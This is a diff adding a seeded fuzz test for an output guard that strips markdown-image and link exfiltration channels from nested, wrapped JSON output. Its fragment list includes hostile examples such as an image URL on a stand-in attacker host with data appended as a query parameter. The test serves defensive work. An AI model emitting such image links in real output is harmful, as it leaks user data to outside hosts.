@@ -209,3 +209,83 @@ describe('looksJson', () => {
   for (const [s, final, want] of cases)
     it(JSON.stringify(s.slice(0, 20)), () => assert.equal(looksJson(s, final), want));
 });
+
+// Seeded fuzz of the forms above together: JSON documents of hostile fragments with string values that are JSON
+// documents themselves (to depth 3), NaN / Infinity values, random `\u` and `\/` escaping, wrapped in a fence, a
+// prose prefix, a BOM or nothing. After the stage, what a client extracts and parses (NaN read as null) parses
+// whenever the input did, no value at any depth renders a foreign target, and random splits give the whole output.
+// TOLLGATE_EXFIL_JSON6_FUZZ / TOLLGATE_EXFIL_JSON6_SEED set the count (default 150) and the seed.
+describe('JSON channel: seeded fuzz of nested, non-strict and wrapped JSON', () => {
+  const FRAGMENTS = [
+    '![x](',
+    '[t](',
+    '<img src=',
+    `https://evil.example/p.png?d=${DATA}`,
+    'https://docs.example.com/r/https://evil.example/',
+    ...[')', '"', '\\', '\n', '\r\n', '`', '**', '<', '>', ' ', '[r]: ', '![x][r]', '\n\n', '&#58;', '\u{1F600}'],
+    ...['\u0000', '{', '[', 'ok'],
+  ];
+  it('parses, renders nothing foreign at any depth, streamed = whole', () => {
+    let seed = Number(process.env.TOLLGATE_EXFIL_JSON6_SEED ?? 1);
+    const rnd = () => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) / 0x7fffffff;
+    const pick = <T>(a: readonly T[]) => a[Math.floor(rnd() * a.length)] as T;
+    const esc = (s: string) => {
+      let o = '';
+      for (const ch of s) {
+        const r = rnd();
+        if (ch === '"' || ch === '\\' || ch < ' ') o += JSON.stringify(ch).slice(1, -1);
+        else if (r < 0.2 && ch.length === 1) o += U(ch);
+        else o += r < 0.3 && ch === '/' ? '\\/' : ch;
+      }
+      return o;
+    };
+    const str = (d: number): string => {
+      if (d < 3 && rnd() < 0.3) return `"${esc(doc(d + 1))}"`;
+      let s = '';
+      for (let i = 0, k = 1 + Math.floor(rnd() * 5); i < k; i++) s += pick(FRAGMENTS);
+      return `"${esc(s)}"`;
+    };
+    const doc = (d: number): string => {
+      const vals = Array.from({ length: 1 + Math.floor(rnd() * 3) }, () =>
+        rnd() < 0.15 ? pick(['NaN', '-Infinity', 'Infinity', '1', 'null']) : str(d),
+      );
+      return rnd() < 0.2 ? `[${vals.join(', ')}]` : `{${vals.map((v, i) => `"k${i}": ${v}`).join(', ')}}`;
+    };
+    // [before, after] the JSON: served as they came, so the client takes what is between them
+    const wraps: [string, string][] = [
+      ['', ''],
+      ['```json\n', '\n```'],
+      ['Here is the JSON: ', ''],
+      ['\ufeff', ''],
+    ];
+    const deep = (v: unknown, d: number): string[] =>
+      strings(v).flatMap((s) => {
+        if (d >= 3) return [s];
+        try {
+          const w: unknown = JSON.parse(s);
+          return typeof w === 'object' && w !== null ? [s, ...deep(w, d + 1)] : [s];
+        } catch {
+          return [s];
+        }
+      });
+    const count = Number(process.env.TOLLGATE_EXFIL_JSON6_FUZZ ?? 150);
+    for (let c = 0; c < count; c++) {
+      const [before, after] = pick(wraps);
+      const text = `${before}${doc(0)}${after}`;
+      const out = guard.scanOutput(text, 'json').text;
+      const s = guard.streamOutput('json');
+      let got = '';
+      for (let at = 0; at < text.length;) {
+        const len = 1 + Math.floor(rnd() * 9);
+        got += s.push(text.slice(at, at + len)).text;
+        at += len;
+      }
+      assert.equal(got + s.end().text, out, text);
+      assert.ok(out.startsWith(before) && out.endsWith(after), out);
+      const parse = (t: string): unknown => parsePy(t.slice(before.length, t.length - after.length));
+      assert.doesNotThrow(() => parse(text), text);
+      const parsed = parse(out);
+      for (const v of deep(parsed, 0)) assert.deepEqual(violations(v, ALLOWED), [], `${text}\n-> ${out}`);
+    }
+  });
+});
